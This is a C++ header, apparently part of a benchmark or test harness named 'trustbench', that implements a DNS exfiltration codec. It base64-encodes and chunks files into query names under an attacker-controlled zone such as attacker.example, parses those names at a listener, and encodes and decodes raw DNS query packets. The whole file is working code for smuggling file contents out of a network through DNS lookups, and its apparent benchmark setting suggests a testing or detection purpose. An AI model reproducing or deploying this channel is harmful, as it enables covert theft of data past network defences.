#pragma once

// Data-bearing DNS query names and the minimal wire codec around them.
//
// Query name grammar, left to right:
//
//   <filetag>.<chunk_data>.<chunk_index>.<session>.<zone>
//
// filetag     1-8 chars of [a-z0-9], names one file within a session
// chunk_data  1-63 chars of base64 text (standard alphabet + '=')
// chunk_index zero-padded decimal, width max(3, digits(total_chunks - 1))
// session     2-8 chars of [a-z0-9]
// zone        attacker-controlled suffix, e.g. attacker.example

#include <algorithm>
#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <tuple>
#include <vector>

#include "trustbench/detail/base64.hpp"
#include "trustbench/errors.hpp"

namespace trustbench::dns {

inline constexpr std::size_t kMaxLabelLength = 63;
inline constexpr std::size_t kMaxNameLength = 253;  // presentation form, dots included
inline constexpr std::size_t kDefaultChunkSize = 32;

inline bool is_lower_alnum(std::string_view s) {
  return !s.empty() && std::all_of(s.begin(), s.end(), [](char c) {
    return (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9');
  });
}

inline bool is_base64_char(char c) {
  return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') ||
         c == '+' || c == '/' || c == '=';
}

// Short name for one file inside a session, e.g. "perm0".
class FileTag {
 public:
  explicit FileTag(std::string value) : value_(std::move(value)) {
    if (value_.size() > 8 || !is_lower_alnum(value_)) {
      throw ValidationError("file tag '" + value_ + "' must be 1-8 chars of [a-z0-9]");
    }
  }

  const std::string& str() const noexcept { return value_; }

  friend bool operator==(const FileTag&, const FileTag&) = default;
  friend auto operator<=>(const FileTag&, const FileTag&) = default;

 private:
  std::string value_;
};

class SessionToken {
 public:
  explicit SessionToken(std::string value) : value_(std::move(value)) {
    if (value_.size() < 2 || value_.size() > 8 || !is_lower_alnum(value_)) {
      throw ValidationError("session token '" + value_ + "' must be 2-8 chars of [a-z0-9]");
    }
  }

  const std::string& str() const noexcept { return value_; }

  friend bool operator==(const SessionToken&, const SessionToken&) = default;
  friend auto operator<=>(const SessionToken&, const SessionToken&) = default;

 private:
  std::string value_;
};

inline std::vector<std::string_view> split_labels(std::string_view name) {
  std::vector<std::string_view> labels;
  std::size_t start = 0;
  while (start <= name.size()) {
    const std::size_t dot = name.find('.', start);
    if (dot == std::string_view::npos) {
      labels.push_back(name.substr(start));
      break;
    }
    labels.push_back(name.substr(start, dot - start));
    start = dot + 1;
  }
  return labels;
}

// Zones are ordinary lowercase hostnames: dot-separated labels of
// [a-z0-9-], at least two labels deep.
inline void validate_zone(std::string_view zone) {
  const auto labels = split_labels(zone);
  if (labels.size() < 2) {
    throw ValidationError("zone '" + std::string(zone) + "' needs at least two labels");
  }
  for (std::string_view label : labels) {
    if (label.empty() || label.size() > kMaxLabelLength) {
      throw ValidationError("zone '" + std::string(zone) + "' has a bad label length");
    }
    if (!std::all_of(label.begin(), label.end(), [](char c) {
          return (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '-';
        })) {
      throw ValidationError("zone '" + std::string(zone) + "' has a bad character");
    }
  }
}

// ---------------------------------------------------------------------------
// Chunking.

struct ChunkedFile {
  FileTag tag;
  std::string relative_path;
  std::vector<std::string> chunks;  // base64 slices, each 1..chunk_size chars

  std::size_t total_chunks() const noexcept { return chunks.size(); }
};

// Base64-encode `content` and slice the text into chunk_size-char pieces
// (the final piece may be shorter). Number of chunks is always
// ceil(base64_len / chunk_size) and at least 1.
inline ChunkedFile chunk_file(std::string relative_path,
                              std::span<const std::uint8_t> content, FileTag tag,
                              std::size_t chunk_size = kDefaultChunkSize) {
  if (chunk_size == 0 || chunk_size > kMaxLabelLength) {
    throw ValidationError("chunk size " + std::to_string(chunk_size) +
                          " outside 1-" + std::to_string(kMaxLabelLength));
  }
  if (content.empty()) {
    throw ValidationError("cannot chunk empty content for '" + relative_path + "'");
  }
  const std::string encoded = trustbench::detail::base64_encode(content);
  std::vector<std::string> chunks;
  chunks.reserve((encoded.size() + chunk_size - 1) / chunk_size);
  for (std::size_t i = 0; i < encoded.size(); i += chunk_size) {
    chunks.push_back(encoded.substr(i, chunk_size));
  }
  return ChunkedFile{std::move(tag), std::move(relative_path), std::move(chunks)};
}

// Width of the zero-padded index label for a transfer of `total_chunks`.
inline std::size_t index_width(std::size_t total_chunks) {
  std::size_t width = std::to_string(total_chunks == 0 ? 0 : total_chunks - 1).size();
  return std::max<std::size_t>(3, width);
}

inline std::string format_index(std::uint64_t index, std::size_t total_chunks) {
  std::string digits = std::to_string(index);
  const std::size_t width = index_width(total_chunks);
  if (digits.size() < width) {
    digits.insert(digits.begin(), width - digits.size(), '0');
  }
  return digits;
}

// ---------------------------------------------------------------------------
// Query names.

struct ExfilQueryName {
  FileTag tag;
  std::string chunk_data;
  std::string chunk_index;  // zero-padded as transmitted
  SessionToken session;
  std::string zone;

  std::string render() const {
    return tag.str() + "." + chunk_data + "." + chunk_index + "." + session.str() +
           "." + zone;
  }

  friend bool operator==(const ExfilQueryName&, const ExfilQueryName&) = default;
};

inline void validate_name_length(std::string_view name) {
  if (name.size() > kMaxNameLength) {
    throw ValidationError("name length " + std::to_string(name.size()) + " exceeds " +
                          std::to_string(kMaxNameLength));
  }
  for (std::string_view label : split_labels(name)) {
    if (label.empty() || label.size() > kMaxLabelLength) {
      throw ValidationError("label length " + std::to_string(label.size()) +
                            " outside 1-" + std::to_string(kMaxLabelLength) + " in '" +
                            std::string(name) + "'");
    }
  }
}

inline ExfilQueryName build_query_name(const ChunkedFile& file, std::size_t chunk_index,
                                       const SessionToken& session, std::string_view zone) {
  validate_zone(zone);
  if (chunk_index >= file.total_chunks()) {
    throw ValidationError("chunk index " + std::to_string(chunk_index) +
                          " out of range for " + std::to_string(file.total_chunks()) +
                          " chunks");
  }
  ExfilQueryName name{file.tag, file.chunks[chunk_index],
                      format_index(chunk_index, file.total_chunks()), session,
                      std::string(zone)};
  validate_name_length(name.render());
  return name;
}

struct ParsedQueryName {
  FileTag tag;
  std::string chunk_data;
  std::uint64_t chunk_index = 0;
  SessionToken session;

  friend bool operator==(const ParsedQueryName&, const ParsedQueryName&) = default;
};

// Split a query name observed at the listener. Returns nullopt when the name
// is simply not under `zone`; throws ParseError when it is under the zone
// but does not fit the grammar.
inline std::optional<ParsedQueryName> parse_query_name(std::string_view name,
                                                       std::string_view zone) {
  validate_zone(zone);
  const std::string suffix = "." + std::string(zone);
  if (name.size() <= suffix.size() || !name.ends_with(suffix)) {
    return std::nullopt;
  }
  const std::string_view head = name.substr(0, name.size() - suffix.size());
  const auto labels = split_labels(head);
  if (labels.size() != 4) {
    throw ParseError("expected 4 labels before zone, got " +
                     std::to_string(labels.size()) + " in '" + std::string(name) + "'");
  }
  const auto [tag_label, data_label, index_label, session_label] =
      std::tuple{labels[0], labels[1], labels[2], labels[3]};

  if (tag_label.empty() || tag_label.size() > 8 || !is_lower_alnum(tag_label)) {
    throw ParseError("bad file tag '" + std::string(tag_label) + "'");
  }
  if (data_label.empty() || data_label.size() > kMaxLabelLength ||
      !std::all_of(data_label.begin(), data_label.end(), is_base64_char)) {
    throw ParseError("bad chunk data label in '" + std::string(name) + "'");
  }
  if (index_label.empty() || index_label.size() > 19 ||
      !std::all_of(index_label.begin(), index_label.end(),
                   [](char c) { return c >= '0' && c <= '9'; })) {
    throw ParseError("bad chunk index '" + std::string(index_label) + "'");
  }
  if (session_label.size() < 2 || session_label.size() > 8 ||
      !is_lower_alnum(session_label)) {
    throw ParseError("bad session token '" + std::string(session_label) + "'");
  }
  return ParsedQueryName{FileTag(std::string(tag_label)), std::string(data_label),
                         std::stoull(std::string(index_label)),
                         SessionToken(std::string(session_label))};
}

// ---------------------------------------------------------------------------
// Wire format: query-only, RFC 1035 section 4. One question, no answer
// sections, no compression.

enum class QueryType : std::uint16_t {
  a = 1,
  txt = 16,
};

struct DnsQueryMessage {
  std::uint16_t id = 0;
  std::string qname;
  QueryType qtype = QueryType::a;
  bool recursion_desired = true;

  friend bool operator==(const DnsQueryMessage&, const DnsQueryMessage&) = default;
};

// Label bytes must render unambiguously in dotted text: printable ASCII,
// never '.'.
inline bool is_wire_label_char(char c) {
  return c > 0x20 && c < 0x7f && c != '.';
}

inline std::vector<std::uint8_t> encode_dns_query(const DnsQueryMessage& msg) {
  validate_name_length(msg.qname);
  for (std::string_view label : split_labels(msg.qname)) {
    if (!std::all_of(label.begin(), label.end(), is_wire_label_char)) {
      throw ValidationError("label '" + std::string(label) + "' has non-printable or dot byte");
    }
  }

  std::vector<std::uint8_t> out;
  out.reserve(12 + msg.qname.size() + 6);
  const auto be16 = [&](std::uint16_t v) {
    out.push_back(static_cast<std::uint8_t>(v >> 8));
    out.push_back(static_cast<std::uint8_t>(v & 0xff));
  };
  be16(msg.id);
  be16(msg.recursion_desired ? 0x0100 : 0x0000);
  be16(1);  // QDCOUNT
  be16(0);  // ANCOUNT
  be16(0);  // NSCOUNT
  be16(0);  // ARCOUNT
  for (std::string_view label : split_labels(msg.qname)) {
    out.push_back(static_cast<std::uint8_t>(label.size()));
    out.insert(out.end(), label.begin(), label.end());
  }
  out.push_back(0);
  be16(static_cast<std::uint16_t>(msg.qtype));
  be16(1);  // QCLASS IN
  return out;
}

// Strict decoder for datagrams this library itself emits. Anything else —
// responses, compression pointers, extra questions or records, trailing
// bytes, unknown types — is a ParseError carrying the failing offset.
// Never reads outside `wire`.
inline DnsQueryMessage parse_dns_query(std::span<const std::uint8_t> wire) {
  if (wire.size() < 12) {
    throw ParseError("truncated header", wire.size());
  }
  const auto be16_at = [&](std::size_t off) {
    return static_cast<std::uint16_t>((wire[off] << 8) | wire[off + 1]);
  };
  DnsQueryMessage msg;
  msg.id = be16_at(0);
  const std::uint16_t flags = be16_at(2);
  if ((flags & ~std::uint16_t{0x0100}) != 0) {
    throw ParseError("unsupported flags", 2);
  }
  msg.recursion_desired = (flags & 0x0100) != 0;
  if (be16_at(4) != 1) throw ParseError("QDCOUNT must be 1", 4);
  if (be16_at(6) != 0) throw ParseError("ANCOUNT must be 0", 6);
  if (be16_at(8) != 0) throw ParseError("NSCOUNT must be 0", 8);
  if (be16_at(10) != 0) throw ParseError("ARCOUNT must be 0", 10);

  std::size_t off = 12;
  std::string name;
  while (true) {
    if (off >= wire.size()) throw ParseError("truncated name", off);
    const std::uint8_t len = wire[off];
    if (len == 0) {
      ++off;
      break;
    }
    if ((len & 0xc0) != 0) throw ParseError("compression pointer or oversized label", off);
    if (off + 1 + len > wire.size()) throw ParseError("truncated label", off);
    if (!name.empty()) name.push_back('.');
    for (std::size_t i = 0; i < len; ++i) {
      const char c = static_cast<char>(wire[off + 1 + i]);
      if (!is_wire_label_char(c)) {
        throw ParseError("label byte not printable", off + 1 + i);
      }
      name.push_back(c);
    }
    off += 1 + static_cast<std::size_t>(len);
  }
  if (name.empty()) throw ParseError("empty question name", 12);
  if (name.size() > kMaxNameLength) throw ParseError("question name too long", 12);
  msg.qname = std::move(name);

  if (off + 4 > wire.size()) throw ParseError("truncated question footer", off);
  const std::uint16_t qtype = be16_at(off);
  if (qtype != static_cast<std::uint16_t>(QueryType::a) &&
      qtype != static_cast<std::uint16_t>(QueryType::txt)) {
    throw ParseError("unsupported qtype " + std::to_string(qtype), off);
  }
  msg.qtype = static_cast<QueryType>(qtype);
  if (be16_at(off + 2) != 1) throw ParseError("QCLASS must be IN", off + 2);
  off += 4;
  if (off != wire.size()) throw ParseError("trailing bytes", off);
  return msg;
}

}  // namespace trustbench::dns
